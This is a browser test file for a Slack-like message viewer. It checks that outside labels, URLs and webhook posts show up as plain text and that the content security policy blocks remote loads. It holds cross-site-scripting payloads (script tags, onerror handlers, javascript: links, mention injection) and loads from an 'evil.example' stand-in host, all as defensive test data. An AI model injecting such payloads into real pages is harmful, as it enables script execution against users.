/** Text from outside is shown as text: it runs nothing, loads nothing, formats nothing and pushes nothing aside. */
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { completes, fails } from '../cloud/cdn/life';
import { openBrowser } from './browser';
import { openStage, type Stage } from './stage';

let browser: Browser;
let stage: Stage;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  stage = await openStage(browser, { width: 1_000 });
});
afterEach(() => stage.close());

const LABELS = [
  '<script>window.ran = true</script>',
  '<img src=x onerror="window.ran = true">',
  '<!channel> <@U123> <http://evil.example|http://example.com>',
  '*bold* _italic_ ~gone~ `code` :rocket:',
  '&lt;b&gt; &amp; {{7*7}}',
  'שלום עולם',
  'w'.repeat(80),
];

const URLS = [
  'http://example.com/<script>window.ran = true</script>',
  'http://example.com/"onmouseover="window.ran=true',
  'http://example.com/*bold*_italic_`code`<!here>',
  'javascript:window.ran=true',
  `http://example.com/${'very-'.repeat(95)}long`,
  'http://example.com/مرحبا/בדיקה',
];

it('shows hostile labels, URLs and reasons as they are written', async () => {
  LABELS.forEach((label, i) => {
    stage.watch(`1000000${i}`, label, [{ url: URLS[i % URLS.length] ?? '', life: fails(0, `<i>${label}</i>`) }]);
  });
  stage.watch('20000000', LABELS[0] ?? '', [{ url: URLS[0] ?? '', life: completes(0) }]);
  await stage.pollAfter(1);
  const message = stage.page.getByRole('article');
  await message.waitFor();
  const said = await message.innerText();
  for (const text of [...LABELS, ...URLS]) expect(said).toContain(text);
  for (const label of LABELS) expect(said).toContain(`<i>${label}`);
  const list = await stage.page.getByRole('table').innerText();
  for (const label of LABELS) expect(list).toContain(label);

  await message.hover();
  expect(await stage.page.evaluate('window.ran')).toBeUndefined();
  const made = 'script, iframe, i, em, del, button, .slack_broadcast, .slack_user, .slack_emoji, img:not(.avatar)';
  expect(await stage.page.locator(`#page :is(${made})`).count()).toBe(0);
  // The only code is the poller's own.
  const code = stage.page
    .locator('code, .slack_inline_code, .slack_code')
    .filter({ hasNotText: /^cdn-tasks retry \d+$/ });
  expect(await code.count()).toBe(0);
  expect(await stage.page.locator('a[href*="evil"], a[href^="javascript"]').count()).toBe(0);
  // Nothing is wider than its column.
  expect(await stage.page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
  for (const part of ['.messages', '.rows']) {
    const sizes = `(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)(document.querySelector('${part}'))`;
    expect(await stage.page.evaluate(sizes)).toBe(0);
  }
  expect(stage.faults).toEqual([]);
});

it('shows plain text in headers and footers as it is written', async () => {
  const text = '*bold* <!channel> <script>x</script> :rocket: `code`';
  const plain = { type: 'plain_text', text, emoji: false };
  const blocks = [
    { type: 'header', text: plain },
    { type: 'context', elements: [plain] },
  ];
  await fetch(stage.cloud.slack.webhookUrl, { method: 'POST', body: JSON.stringify({ text: 'x', blocks }) });
  const said = await stage.page.getByRole('article').innerText();
  expect(said.split('\n').filter((line) => line === text)).toHaveLength(2);
});

it('runs no script from a link, whatever somebody posts to the webhook', async () => {
  const link = { type: 'link', url: 'javascript:window.ran=true', text: 'click me' };
  const elements = [{ type: 'rich_text_section', elements: [link] }];
  const body = JSON.stringify({ text: 'x', blocks: [{ type: 'rich_text', elements }] });
  await fetch(stage.cloud.slack.webhookUrl, { method: 'POST', body });
  await stage.page.getByText('click me').click();
  expect(await stage.page.evaluate('window.ran')).toBeUndefined();
});

it('could load nothing from elsewhere even if it tried', async () => {
  const blocked = await stage.page.evaluate(`new Promise((resolve) => {
    const blocked = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      blocked.push(effectiveDirective);
      if (blocked.length === 4) resolve(blocked.sort());
    });
    const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
    add('img', { src: 'http://evil.example/x.png' });
    add('script', { textContent: 'window.ran = true' });
    add('script', { src: 'http://evil.example/x.js' });
    fetch('http://evil.example/x').catch(() => undefined);
  })`);
  expect(blocked).toEqual(['connect-src', 'img-src', 'script-src-elem', 'script-src-elem']);
  expect(await stage.page.evaluate('window.ran')).toBeUndefined();
});
